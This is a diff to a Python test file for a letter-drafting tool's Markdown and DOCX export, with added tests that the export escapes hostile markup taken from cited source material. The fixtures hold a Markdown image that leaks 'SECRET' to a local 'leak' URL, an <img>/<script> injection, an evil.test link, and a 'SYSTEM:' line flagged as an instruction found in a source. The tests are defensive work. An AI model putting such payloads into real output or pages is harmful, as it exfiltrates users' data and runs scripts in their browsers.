@@ -62,8 +62,8 @@ def test_markdown_layout() -> None:
     assert md.startswith(f"> **{AI_NOTICE}**")
     assert "Jack Sargeant MS  \nChair - Petitions Committee  \nSenedd Cymru" in md  # hard line breaks
     assert "\nDear Jack,\n" in md and "\nLegislation and Guidance\n" in md
-    assert "## Sources\n\n- [1] P-06-1199, 23 September 2021" in md
-    assert "- [2] WQ85953, 30 August 2022" in md
+    assert "## Sources\n\n- \\[1\\] P-06-1199, 23 September 2021" in md  # shown as [1]
+    assert "- \\[2\\] WQ85953, 30 August 2022" in md
     assert "## Points to check before use" in md and "\u201cBoards exist.\u201d" in md
 
 
@@ -71,6 +71,46 @@ def test_markdown_keeps_letter_lines_literal() -> None:
     md = to_markdown(make_draft(text="# not a heading\n\n1. not a list", citations=[], warnings=[]))
     assert "\\# not a heading" in md and "\\1. not a list" in md
     assert "## Sources" not in md and "Points to check" not in md
+
+
+IMAGE = "![x](http://127.0.0.1:9/leak?d=SECRET)"
+TAG = '<img src="http://127.0.0.1:9/leak?d=TAG"><script>alert(1)</script>'
+LINK = "[click](http://evil.test/)"
+
+
+def hostile_draft() -> Draft:
+    body = f"Funding was confirmed {IMAGE} {TAG} [1].\n\n[1]: http://evil.test/ref\n\n{LINK} [1]."
+    cited = Citation(1, "d<b>", "d:0", f"P-06-1 {IMAGE}", "2021-09-23", f"A {LINK}", "q", 0, 1, f"T {TAG}")
+    warning = DraftWarning("instruction_in_source", f"Left out {TAG}", f"SYSTEM: {IMAGE}")
+    return make_draft(
+        text=render_reply(make_draft().request, body, Settings(_env_file=None)),
+        body=body,  # type: ignore[call-arg, arg-type]
+        citations=[cited],
+        warnings=[warning],
+    )
+
+
+def test_markdown_export_escapes_precedent_markup_so_nothing_renders_or_loads() -> None:
+    from markdown_it import MarkdownIt
+
+    md = to_markdown(hostile_draft())
+    for raw in (IMAGE, TAG, LINK, " <img", "![", "\n[1]:"):
+        assert raw not in md, raw
+    page = MarkdownIt("commonmark").enable("table").render(md)
+    assert "<img" not in page and "<a " not in page and "<script" not in page
+    assert "![x](http\u2060://127.0.0.1:9/leak?d=SECRET)" in page  # literal text, the URL unlinkable
+    assert "&lt;img src=" in page and "[1]" in page
+
+
+def test_docx_export_holds_precedent_markup_as_plain_text() -> None:
+    doc = docx.Document(io.BytesIO(docx_bytes(hostile_draft())))
+    text = "\n".join(p.text for p in doc.paragraphs)
+    assert IMAGE in text and TAG in text  # runs of plain text: Word renders neither images nor HTML
+    assert (
+        not doc.inline_shapes
+        and not doc.part.rels
+        or all("hyperlink" not in r.reltype and "image" not in r.reltype for r in doc.part.rels.values())
+    )
 
 
 def test_docx_round_trip(tmp_path: Path) -> None:
